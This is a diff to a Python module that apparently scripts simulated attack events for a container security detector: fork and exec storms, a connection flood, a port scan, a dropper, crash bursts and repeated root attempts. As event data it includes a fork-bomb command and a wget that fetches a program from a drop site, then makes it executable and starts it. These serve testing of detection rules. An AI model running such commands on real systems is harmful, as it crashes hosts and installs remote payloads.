@@ -1,33 +1,33 @@
-"""What shows only over time: storms, scans, chains and repeats; and the restart of an agent, which is no attack."""
+"""Attacks that are visible only over time: storms, scans, chains and repeats; and an agent's restart, which is none."""
 
-# ruff: noqa: S108 - paths are told, not used
+# ruff: noqa: S108 - paths are written into events, not used
 
 from tocsin.simulator import hooks
-from tocsin.simulator.attacks import DROP_SITE, Tell
+from tocsin.simulator.attacks import DROP_SITE, Attack
 from tocsin.simulator.script import Script
 
 FORKS = 550
-"""More than a storm rule's usual 500 in 10 s, of forks or execs."""
+"""More than the 500 forks or execs in 10 s of a storm rule."""
 CONNECTS = 1_100
-"""More than its usual 1,000 in 10 s."""
+"""More than the 1,000 connections in 10 s of a storm rule."""
 _VICTIM = "198.51.100.77"
 _SCANNED = (
     21, 22, 23, 25, 53, 80, 110, 111, 139, 143, 389, 443, 445, 993, 1_433, 1_521, 2_049, 2_375, 2_379, 3_306, 3_389,
     5_432, 5_900, 6_379, 8_080, 9_200,
 )  # fmt: skip
-"""More ports than a scan's usual 20 in a minute."""
+"""More ports than the 20 in a minute of the scan rule."""
 _SWEPT = 55
-"""More addresses than its usual 50."""
+"""More addresses than the 50 of the sweep rule."""
 _CRASHES = 12
-"""More than a crash burst's usual 10 in a minute."""
+"""More than the 10 crashes in a minute of the crash rule."""
 _KILLS = 6
-"""More than the usual 5 in five minutes."""
+"""More than the 5 kills in five minutes of the enforcement rule."""
 
 
-def fork_storm(forks: int = FORKS) -> Tell:
+def fork_storm(forks: int = FORKS) -> Attack:
     """One shell forks *forks* times without an exec: one exec and a flood of exits."""
 
-    def tell(s: Script) -> None:
+    def attack(s: Script) -> None:
         shell = s.exec(s.home.worker, "/bin/bash", '-c ":(){ :|:& };:"')
         children = [s.fork(shell) for _ in range(forks)]
         s.hook(shell, hooks.forked(shell.pid, children[0].pid))
@@ -37,36 +37,36 @@ def fork_storm(forks: int = FORKS) -> Tell:
         s.exit(shell, signal="SIGKILL")
         s.throttle("THROTTLE_STOP")
 
-    return tell
+    return attack
 
 
-def exec_storm(execs: int = FORKS) -> Tell:
+def exec_storm(execs: int = FORKS) -> Attack:
     """A shell starts the same small program *execs* times."""
 
-    def tell(s: Script) -> None:
+    def attack(s: Script) -> None:
         shell = s.exec(s.home.worker, "/bin/sh", '-c "while :; do /bin/true; done"')
         for _ in range(execs):
             s.run(shell, "/bin/true")
         s.exit(shell, signal="SIGTERM")
 
-    return tell
+    return attack
 
 
-def connect_storm(connects: int = CONNECTS) -> Tell:
+def connect_storm(connects: int = CONNECTS) -> Attack:
     """A program floods one address with *connects* connections."""
 
-    def tell(s: Script) -> None:
+    def attack(s: Script) -> None:
         flood = s.exec(s.home.worker, "/app/node_modules/.bin/loadtest", f"-c 500 https://{_VICTIM}/")
         first = s.rng.randrange(20_000, 40_000)
         for n in range(connects):
             s.hook(flood, hooks.connect(s.address, first + n, _VICTIM, 443, first + n))
         s.exit(flood, signal="SIGTERM")
 
-    return tell
+    return attack
 
 
 def port_scan(s: Script) -> None:
-    """Each known port of one address is tried, then one port of each address of a network."""
+    """A program tries every known port of one address, then one port of each address of a network."""
     scan = s.exec(s.home.worker, "/usr/local/bin/python3.12", '-c "import socket,sys;exec(sys.stdin.read())"')
     targets = [("10.244.3.20", port) for port in _SCANNED] + [(f"10.244.4.{n}", 22) for n in range(1, _SWEPT + 1)]
     for source, (address, port) in enumerate(targets, 41_000):
@@ -75,7 +75,7 @@ def port_scan(s: Script) -> None:
 
 
 def dropper(s: Script) -> None:
-    """A program is fetched, made executable and started from a temporary directory, one step after another."""
+    """A program is downloaded to a temporary directory, made executable and started."""
     path = "/tmp/.cache/.u"
     shell = s.exec(s.home.worker, "/bin/bash", "/builds/app/configure")
     fetch = s.exec(shell, "/usr/bin/wget", f"-q -O {path} http://{DROP_SITE}/u")
@@ -91,7 +91,7 @@ def dropper(s: Script) -> None:
 
 
 def crash_burst(s: Script) -> None:
-    """A service is fed what makes its children crash, again and again."""
+    """A service receives input that crashes its child processes, several times."""
     for _ in range(_CRASHES):
         child = s.fork(s.home.worker)
         s.hook(child, hooks.accept(s.address, 8_000, "10.244.0.77", s.rng.randrange(32_768, 60_999), 8_000))
@@ -99,7 +99,7 @@ def crash_burst(s: Script) -> None:
 
 
 def repeated_enforcement(s: Script) -> None:
-    """A program tries to become root until somebody looks; each time the policy's kill is confirmed by its exit."""
+    """A program tries to become root several times; each time the exit confirms the policy's kill."""
     for attempt in range(_KILLS):
         tool = s.exec(s.home.worker, "/opt/evil/become", f"--attempt {attempt}")
         s.hook(tool, hooks.kill_setuid_root())
@@ -107,7 +107,7 @@ def repeated_enforcement(s: Script) -> None:
 
 
 def agent_throttled(s: Script) -> None:
-    """A program makes so much noise that the agent holds the container's events back."""
+    """A program causes so many events that the agent throttles the container."""
     noise = s.exec(s.home.worker, "/usr/bin/find", "/ -xdev -newer /tmp/.t -type f")
     s.throttle("THROTTLE_START")
     s.rate_limited(s.rng.randrange(5_000, 50_000))
@@ -116,6 +116,6 @@ def agent_throttled(s: Script) -> None:
 
 
 def agent_rollout(s: Script) -> None:
-    """The agent of a node restarts and tells of every process that it finds running, each with its old start time."""
+    """The agent of a node restarts and reports every running process with its old start time."""
     for process in s.home.neighbours:
         s.existing(process, again=True)
